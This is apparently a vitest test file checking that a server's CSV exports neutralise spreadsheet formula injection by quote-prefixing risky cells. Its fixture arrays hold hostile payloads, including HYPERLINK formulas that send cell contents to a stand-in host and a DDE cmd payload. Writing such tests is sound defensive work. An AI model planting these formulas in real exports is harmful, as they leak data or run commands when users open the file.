import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCell } from '../exports/export-format.js';
import { importDataset } from '../imports/import-dataset.js';
import { exportHarness } from '../test/export-server.js';
import { fingerprint } from '../test/fingerprint.js';
import { writeClient } from '../test/write-client.js';

// Hostile input: names and notes that a spreadsheet would run as formulas when a user opens
// an export (OWASP CSV injection), e.g. a HYPERLINK that sends the neighbouring cells elsewhere.
const { ctx, base, close } = await exportHarness();
const gql = writeClient(ctx.db);
afterAll(close);

/** What names may hold (no `=` or `@`) is enough for a working formula. */
const NAMES = ['+HYPERLINK("http://evil.example/"&B2&C2,"详情")', '-2+3', "'+already quoted"];
/** Notes are free text. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&B2&C2,"详情")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1)',
  '\t=1+1',
  "'=already quoted",
];
const isNumber = (cell: string) => /^-?[0-9]+(\.[0-9]+)?$/.test(cell);
const parse = (text: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('CSV exports and formula cells', () => {
  it('prefixes every formula-like cell with a quote in every CSV the server writes; numbers stay numbers', async () => {
    const ids: string[] = [];
    for (const [i, note] of FORMULAS.entries()) {
      const result = await gql<{ createActor: { __typename: string; actor?: { id: string } } }>(
        `mutation($input: CreateActorInput!) { createActor(input: $input) {
          __typename ... on CreateActorSuccess { actor { id } } } }`,
        { input: { key: `formula-${i}`, name: NAMES[i % NAMES.length], kind: 'OTHER', note } },
      );
      expect(result.data?.createActor.__typename, note).toBe('CreateActorSuccess');
      ids.push(result.data?.createActor.actor?.id ?? '');
    }
    const recorded = await gql<{ recordFlow: { __typename: string } }>(
      `mutation($input: RecordFlowInput!) { recordFlow(input: $input) { __typename } }`,
      {
        input: {
          key: 'formula-flow',
          sourceId: ids[0],
          targetId: ids[1],
          amount: { value: '5' },
          year: 2017,
          status: 'DISBURSED',
          instrument: 'GRANT',
          note: FORMULAS[0],
        },
      },
    );
    expect(recorded.data?.recordFlow.__typename).toBe('RecordFlowSuccess');
    for (const path of [
      'flows.csv',
      'actors.csv',
      'observations.csv',
      'totals.csv?groupBy=SOURCE,YEAR',
    ]) {
      const response = await fetch(`${base}/export/${path}`);
      expect(response.status, path).toBe(200);
      const cells = parse(await response.text()).flat();
      const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !isNumber(c));
      expect(risky, path).toEqual([]);
      if (!path.startsWith('observations') && !path.startsWith('totals')) {
        expect(cells, path).toContain(`'${FORMULAS[0]}`);
        expect(cells, path).toContain(`'${NAMES[0]}`);
      }
    }
  });

  it('keeps numbers numbers, negative ones too, and quotes what it prefixes', () => {
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('4880000000')).toBe('4880000000');
    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('@A1')).toBe(`"'@A1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('普通')).toBe('普通');
  });

  it('an exported file imports back unchanged: the quote is taken off again', async () => {
    const before = await fingerprint(ctx.db);
    const flowsCsv = await (await fetch(`${base}/export/flows.csv`)).text();
    const report = await importDataset(ctx.db, { author: 'test', tokenId: null }, flowsCsv, {
      format: 'CSV',
    });
    expect(report.flows.created + report.flows.updated).toBe(0);
    expect(await fingerprint(ctx.db)).toEqual(before);
  });
});
